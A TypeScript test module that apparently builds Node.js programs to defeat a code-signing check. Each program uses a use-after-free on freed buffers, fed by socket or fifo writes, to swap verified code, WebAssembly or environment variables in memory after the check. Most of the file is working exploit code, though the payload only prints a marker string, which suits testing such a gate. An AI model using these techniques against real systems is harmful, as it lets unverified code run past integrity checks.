/**
 * These techniques change signed code in memory, after it was judged. They depend on where libc puts a block of memory, so
 * each tries several times, and may fail all the same.
 */

import { execFileSync } from "../../outside.js";
import { DATA, type Technique, withData } from "../technique.js";

/** The module `(module (func (export "f") (result i32) i32.const 42))`. */
const ANSWERS = Buffer.from("0061736d010000000105016000017f03020100070501016600000a06010400412a0b", "hex");

const SIZE = 1_100_000;
/** The first bytes stay as they are: libc keeps its lists there while nobody has the memory. */
const UNWRITTEN = 64;
/** A text that Node.js keeps outside of V8's heap, because it is long. V8 compiles its function when it is called. */
const LONG = `${"//".padEnd(UNWRITTEN - 1, "-")}\n${`globalThis.f = function f() { return "`.padEnd(SIZE, "x")}"; }`;
/**
 * Node.js reads from a socket into the memory of a buffer, also after that memory has passed to another owner. There it
 * is freed, and becomes the text that `compile` gets.
 */
const overwritten = (
	file: string,
	compile: string,
	write: string,
	read = (path: string) => `fs.readFileSync(${path})`,
) => `${DATA}const fs = require("fs"), net = require("net"), vm = require("vm");
process.chdir(data);
// An earlier run of this program may have left its sockets.
const place = "socket" + Date.now() + "-";
require("v8").setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext(fs.readFileSync(__dirname + "/gc.js", "latin1"), {}, { filename: __dirname + "/gc.js" });
const collect = () => { for (let i = 0; i < 4; i++) gc(); };
const give = (memory) => void structuredClone(memory, { transfer: [memory] });
const later = () => new Promise((done) => setTimeout(done, 100));
const bytes = ${read(`__dirname + "/${file}"`)}, count = 8;
const rounds = async () => {
  // After this libc maps no memory for blocks of this size, but takes them from its heap.
  give(new ArrayBuffer(3e7));
  collect();
  globalThis.hasRun = false;
  for (let round = 0; round < 6 && !globalThis.hasRun; round++) {
    const peers = [], sockets = [], functions = [];
    let buffers = [];
    const server = net.createServer((socket) => peers.push(socket.on("error", () => {}))).listen(place + round);
    for (let i = 0; i < count; i++) {
      const buffer = Buffer.from(new ArrayBuffer(bytes.length), ${UNWRITTEN});
      buffers.push(buffer.buffer);
      sockets.push(net.connect({ path: place + round, onread: { buffer, callback: () => true } }).on("error", () => {}));
    }
    await later();
    for (const memory of buffers) give(memory);
    buffers = undefined;
    collect();
    await later();
    for (let i = 0; i < 2 * count; i++) { ${compile} }
    for (const peer of peers) peer.write(${write});
    await later();
    for (const each of functions) try { each(); } catch {}
    for (const socket of sockets) socket.destroy();
    server.close();
  }
  process.exit();
};
rounds();
`;
const EVIL_FUNCTION = `"globalThis.f = function f() { globalThis.hasRun = true; process.getBuiltinModule('fs').writeSync(1, \`evil-ran-\${6 * 7}\\n\`); return \\""`;
const changedText = (name: string, file: string, made: string): Technique => ({
	name,
	signed: {
		"main.js": overwritten(
			file,
			`const text = bytes.toString("latin1");
      new vm.Script(${made}, { filename: __dirname + "/long.js", lineOffset: round * 100 + i }).runInThisContext();
      functions.push(f);`,
			EVIL_FUNCTION,
		),
		"gc.js": "gc",
		"long.js": LONG,
		"longer.js": `${LONG};`,
	},
});
export const changedTexts: readonly Technique[] = [
	changedText("signed text whose memory changes after the judgement", "long.js", "text"),
	changedText("part of a longer text whose memory changes after the judgement", "longer.js", "text.slice(0, -1)"),
];

/** V8 keeps one string for each name of a member. Another string with that text becomes a link to it. */
const NAMES = "const members = { [outside]: 1 }; members[text] = 1;";
const joined = (encoding: string) =>
	`const outside = bytes.toString("${encoding}"), text = [outside.slice(0, 9), outside.slice(9)].join("");`;
const linked = (name: string, compile: string): Technique => ({
	name,
	signed: { "main.js": overwritten("long.js", compile, EVIL_FUNCTION), "gc.js": "gc", "long.js": LONG },
});
const compiled = (text: string, file = "long.js") =>
	`new vm.Script(${text}, { filename: __dirname + "/${file}", lineOffset: round * 100 + i }).runInThisContext();
      functions.push(f);`;

/** The same for text of two bytes a character: half as many characters stay as they are. */
const WIDE = `${"//".padEnd(UNWRITTEN / 2 - 1, "-")}\n${LONG.slice(UNWRITTEN)}`;
/** A text that is one function, which gives all of it as its own text. */
const FUNCTION = `${"function f(/*".padEnd(UNWRITTEN - 2, "-")}*/${`) { return "`.padEnd(SIZE, "x")}"; }`;
const EVIL_BODY = `") { globalThis.hasRun = true; process.getBuiltinModule('fs').writeSync(1, \`evil-ran-\${6 * 7}\\n\`); return \\""`;

export const linkedTexts: readonly Technique[] = [
	linked("text that becomes a link to memory after the judgement", `${joined("latin1")} ${compiled("text")} ${NAMES}`),
	linked(
		"text of a CommonJS function that becomes a link to memory",
		`${joined("latin1")}
      new (require("module"))(__dirname + "/long.js")._compile(text, __dirname + "/long.js");
      functions.push(f);
      ${NAMES}`,
	),
	{
		name: "text of two bytes a character that becomes a link to memory",
		signed: {
			"main.js": overwritten(
				"wide.js",
				`${joined("utf16le")} ${compiled("text", "wide.js")} ${NAMES}`,
				`Buffer.from(${EVIL_FUNCTION}, "utf16le")`,
				(path) => `Buffer.from(fs.readFileSync(${path}, "latin1"), "utf16le")`,
			),
			"gc.js": "gc",
			"wide.js": WIDE,
		},
	},
	{
		name: "text that a function gives, and that becomes a link to memory",
		signed: {
			"main.js": overwritten(
				"function.js",
				`const outside = bytes.toString("latin1"); ${compiled("outside", "function.js")} const text = f.toString(); ${NAMES}`,
				EVIL_BODY,
			),
			"gc.js": "gc",
			"function.js": FUNCTION,
		},
	},
	linked(
		"text of a loaded file that becomes a link to memory",
		`const { prototype } = require("module"), { _compile } = prototype, file = __dirname + "/long.js";
      let text;
      prototype._compile = function (content, name, ...more) { text = content; return _compile.call(this, content, name, ...more); };
      delete require.cache[file];
      require(file);
      prototype._compile = _compile;
      functions.push(f);
      const outside = bytes.toString("latin1");
      ${NAMES}`,
	),
];

/** V8 would compile this text from memory of libc, also if the gate gave it a copy. So it ends at the gate. */
export const namedText: Technique = changedText(
	"name of a member whose memory changes after the judgement",
	"long.js",
	"Object.keys({ __proto__: null, [text]: 1 })[0]",
);

/** A module whose function returns 1, and which is as long as V8 needs to take memory of its own for it. */
const LONG_MODULE = Buffer.concat([
	ANSWERS.subarray(0, 8),
	Buffer.from([0, UNWRITTEN - 10]),
	Buffer.alloc(UNWRITTEN - 10),
	ANSWERS.subarray(8, -2),
	Buffer.from("010b0080c04300", "hex"),
	Buffer.alloc(0x10e000 - 1),
]);
/** V8 keeps the bytes of a module in memory of libc, and compiles from them later. */
export const changedWebAssembly: Technique = {
	name: "signed WebAssembly whose memory changes after the judgement",
	signed: {
		"main.js": overwritten(
			"long.wasm",
			`const { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));
      functions.push(() => { const answer = exports.f(); console.log("evil-ran-" + answer); hasRun ||= answer === 42; });`,
			`fs.readFileSync(data + "/evil.wasm").subarray(8)`,
		),
		"gc.js": "gc",
		"long.wasm": LONG_MODULE,
	},
	beside: { "evil.wasm": ANSWERS },
};

/**
 * Transcoding drops characters without width, so a long buffer becomes one of a byte. Libc later gives its memory to
 * variables of the environment. The program prints the variables whose names the late writes changed.
 */
export const oneByte: Technique = withData(
	"one byte of memory that Node.js made",
	`process.env.UV_THREADPOOL_SIZE = "16";
const fs = require("fs"), { transcode } = require("buffer");
const fifo = fs.openSync(data + "/fifo", "r+");
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const collect = async () => {
  for (let round = 0; round < 6; round++) {
    let garbage = [];
    for (let i = 0; i < 400_000; i++) garbage = [garbage.length];
    await wait(10);
  }
};
(async () => {
  const make = () => transcode(Buffer.from("\\u200b".repeat(2000) + "A"), "utf8", "latin1").buffer;
  await (async () => {
    const buffers = Array.from({ length: 16 }, make);
    for (const buffer of buffers) fs.read(fifo, Buffer.from(buffer), 0, 1, null, () => {});
    await wait(200);
    for (const buffer of buffers) structuredClone(buffer, { transfer: [buffer] });
  })();
  await collect();
  for (let i = 0; i < 64; i++) process.env["X" + i] = "v".repeat(6001 - ("X" + i + "=").length - 1);
  fs.writeSync(fifo, "Y".repeat(16));
  await wait(300);
  console.log("reached", Object.keys(process.env).filter((name) => name.startsWith("Y")).join());
  process.exit();
})();`,
	{ arrange: ({ data }) => execFileSync("mkfifo", [`${data}/fifo`]) },
);
